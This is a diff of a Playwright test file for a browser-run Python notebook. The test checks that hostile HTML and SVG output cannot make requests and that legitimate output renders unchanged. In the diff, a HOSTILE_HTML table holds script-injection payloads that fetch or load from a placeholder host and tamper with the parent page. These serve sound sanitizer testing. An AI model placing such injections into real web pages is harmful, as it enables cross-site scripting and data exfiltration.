@@ -1,4 +1,4 @@
-"""What a program shows: hostile HTML and SVG reach nothing, and the rest looks as it should."""
+"""Output of cells: hostile HTML and SVG have no effect, and legitimate output is unchanged."""
 
 import functools
 import json
@@ -22,7 +22,7 @@ BOOK = {"ja": "notebooks/descent-in-python/", "en": "en/notebooks/descent-in-pyt
 
 
 class Elsewhere:
-    """Another host. It notes every connection and every packet, and answers none."""
+    """Another host, which records every connection and packet, and answers none."""
 
     def __init__(self) -> None:
         self.seen: list[str] = []
@@ -61,18 +61,18 @@ class Elsewhere:
 
 @pytest.fixture(scope="module")
 def elsewhere() -> Iterator[Elsewhere]:
-    """The other host; at the end, nobody may have come."""
+    """The other host; fails the test if there was any connection."""
     with closing(Elsewhere()) as host:
         yield host
         assert host.seen == []
 
 
-#: What Chromium says when Playwright looks into a frame in which no script may run.
+#: Chromium's message when Playwright evaluates scripts in a frame without `allow-scripts`.
 LOOKED_INTO = re.compile(r"Blocked script execution in '.*/frame\.\w+\.html'")
 
 
 class Cell:
-    """A cell of a page on which Python stays loaded; what it shows is looked at after every run."""
+    """A cell of a page on which Python stays loaded; its output is inspected after every run."""
 
     def __init__(self, page: Page, address: str, *, may_complain: bool) -> None:
         self.page = page
@@ -97,7 +97,7 @@ class Cell:
 
 @contextmanager
 def opened(browser: Browser, address: str, *, may_complain: bool = False) -> Iterator[Cell]:
-    """Open a page; where a program is hostile, its console `may_complain` of what is refused."""
+    """Open a page; `may_complain` allows console errors, for what a hostile program is refused."""
     with new_page(browser) as page:
         cell = Cell(page, address, may_complain=may_complain)
         yield cell
@@ -112,7 +112,7 @@ def attacked(browser: Browser, home: str) -> Iterator[Cell]:
 
 @pytest.fixture
 def lang() -> str:
-    """The language of the page, where a test is not for both."""
+    """The language of the page, unless a test is for both."""
     return "en"
 
 
@@ -125,7 +125,7 @@ def cells(browser: Browser, home: str) -> Iterator[Callable[[str], Cell]]:
 
 @pytest.fixture
 def cell(cells: Callable[[str], Cell], lang: str) -> Iterator[Cell]:
-    """A cell of the language; an error that its page tells of fails the test."""
+    """A cell in the language; an error of its page fails the test."""
     cell = cells(lang)
     yield cell
     errors = cell.errors.copy()
@@ -135,7 +135,7 @@ def cell(cells: Callable[[str], Cell], lang: str) -> Iterator[Cell]:
 
 # --- Hostile HTML ---
 
-#: Each asks for something. ELSEWHERE, and the site's own /stolen, must hear nothing.
+#: Each makes a request. None may reach ELSEWHERE, or /stolen of the site itself.
 HOSTILE_HTML = {
     "a script": '<script>fetch("ELSEWHERE"); parent.document.title = "taken"</script>',
     "a script from elsewhere": '<script src="ELSEWHERE"></script>',
@@ -330,7 +330,7 @@ HOSTILE_SVG = {
     ),
 }
 
-#: What the gate lets through; written here once more, so that a longer list there is noticed.
+#: The allowlist of sanitize-svg.ts, repeated here so that an addition there is noticed.
 DRAWING = {
     *("svg", "g", "defs", "use", "a", "clipPath", "mask", "pattern", "image", "path", "rect"),
     *("circle", "ellipse", "line", "polyline", "polygon", "text", "tspan", "linearGradient"),
@@ -352,7 +352,7 @@ LOOK = """
 
 
 def check_drawing(elements: list[dict[str, Any]], width: float) -> None:
-    """Check that nothing in a drawing fetches, leads away, lies over the page or speaks for it."""
+    """Check that a drawing makes no request, has no links, and does not cover or mimic the page."""
     for element in elements:
         attributes = element["attributes"]
         assert element["namespace"] == "http://www.w3.org/2000/svg"
@@ -388,10 +388,10 @@ class Picture:
 SVG = {svg!r}
 {shown}
 """
-#: Sends what Matplotlib would not have made, as a program can.
-SEND = "import outbox\noutbox.outbox().show({})"
+#: Sends SVG that Matplotlib would not produce, as a program can.
+SEND = "from web.python.session import outbox\noutbox.outbox().show({})"
 SENT = SEND.format('{"kind": "figure", "svg": SVG}')
-FILM = '{"kind": "film", "frames": 3, "interval": 100, "repeats": True, '
+FILM = '{"kind": "animation", "frames": 3, "interval": 100, "repeats": True, '
 WAYS = {"figure": "Sly()", "film": SEND.format(FILM + '"svg": SVG}')}
 
 
@@ -448,7 +448,7 @@ def test_what_is_no_picture_is_said_to_be_none(attacked: Cell, drawing: str, sho
     expect(output.get_by_text("This figure cannot be shown")).to_be_visible()
 
 
-#: A million characters that used to be read once more for each of their parts.
+#: A million characters, for which an earlier version took quadratic time.
 REPEATED = {
     "players": (
         "from IPython.display import HTML\n"
@@ -534,7 +534,7 @@ def test_a_figure_of_thousands_of_shapes_is_a_picture(cell: Cell) -> None:
     expect(output.locator("svg")).to_have_count(0)
     few = cell.run(PLOT + "plt.scatter([1, 2, 3], [4, 5, 6]);")
     expect(few.locator(".gd-figure svg use").first).to_be_attached()
-    # A program can send more shapes all the same: then the page makes them an image.
+    # A program can bypass that limit: the page then shows an image.
     output = cell.run(SLY.format(svg=USED, shown=SENT))
     expect(output.get_by_role("img")).to_have_attribute("src", re.compile("^data:image/svg"))
     expect(output.locator("svg")).to_have_count(0)
@@ -560,7 +560,7 @@ def test_a_film_of_thousands_of_shapes_plays_as_pictures(cell: Cell) -> None:
     expect(picture).to_have_js_property("naturalWidth", 200)
 
 
-#: Frames that would all be seen at once, and one of them with more shapes than a page draws.
+#: Frames that would all be visible at once, and a frame with more shapes than a page draws.
 AT_ONCE = svg("".join(f'<g data-frame="{n}" style="display: inline">{BOX}</g>' for n in range(3)))
 CROWD = svg(f'<g data-frame="0">{BOX}</g><g data-frame="1">{BOX * 6_000}</g>')
 
@@ -576,7 +576,7 @@ def test_a_film_shows_one_frame_at_a_time_and_none_that_is_too_much(attacked: Ce
     expect(output.get_by_text("This figure cannot be shown")).to_be_visible()
 
 
-#: What a cell shows, and its text's parts in their order.
+#: The output of a cell, and the parts of its text in order.
 IN_PART = {
     "list(range(10**6))": ["[0,", "… 999,000 more items …", "999999]"],
     "print('ab ' * 3_000_000)": ["ab ab", "characters left out) …", "ab ab"],
@@ -686,7 +686,7 @@ def test_frames_of_a_film_are_not_compared_at_every_depth(attacked: Cell) -> Non
 
 
 ASKING = """
-import outbox
+from web.python.session import outbox
 ask = outbox.outbox().ask
 waiting = [ask(f"Question {n}?", "line") for n in range(50)]
 answer = input("The last one?")
@@ -713,7 +713,7 @@ def test_a_program_asks_one_question_at_a_time_and_takes_the_focus_once(cell: Ce
     expect(cell.output).to_contain_text("'this'")
 
 
-# --- What is told of what is left out ---
+# --- Notes about removed content ---
 
 WORDS = {
     "ja": {
@@ -772,9 +772,9 @@ def test_what_is_left_out_of_an_output_is_told(cell: Cell, lang: str) -> None:
     expect(output.get_by_text(words["long"])).to_be_visible()
 
 
-# --- What is legitimate ---
+# --- Legitimate output ---
 
-#: As pandas writes it.
+#: As in the HTML of pandas.
 TABLE = """
 class Table:
     def _repr_html_(self):
@@ -924,8 +924,8 @@ def test_matplotlibs_player_plays_with_the_mouse_and_with_the_keyboard(
         expect(film).to_have_attribute("data-n", n)
 
 
-# Waits until the first frame follows the last, and answers whether the film goes on.
-BEGINS_ANEW = """async (film) => {
+# Waits until the first frame follows the last, and returns whether the animation continues.
+REPEATS = """async (film) => {
   const seen = [];
   while (!seen.join().includes("3,0")) {
     if (film.dataset.n !== seen.at(-1)) seen.push(film.dataset.n);
@@ -943,7 +943,7 @@ def test_an_animation_that_repeats_does_so_until_it_is_paused(cell: Cell, shown:
     expect(film).to_have_attribute("data-playing", "false")  # nothing moves unasked
     film.get_by_role("slider").press("End")
     film.get_by_role("button", name=WORDS["en"]["play"]).click()
-    assert film.evaluate(BEGINS_ANEW) == "true"
+    assert film.evaluate(REPEATS) == "true"
     film.get_by_role("button", name="Pause").click()
     expect(film).to_have_attribute("data-playing", "false")
 
@@ -1007,7 +1007,7 @@ def engine(
     request: pytest.FixtureRequest, browser: Browser, tmp_path_factory: pytest.TempPathFactory
 ) -> Iterator[Engine]:
     """One page of each engine in turn."""
-    with engines.opened(request.param, browser, tmp_path_factory.mktemp("profile")) as engine:
+    with engines.open_engine(request.param, browser, tmp_path_factory.mktemp("profile")) as engine:
         yield engine
 
 
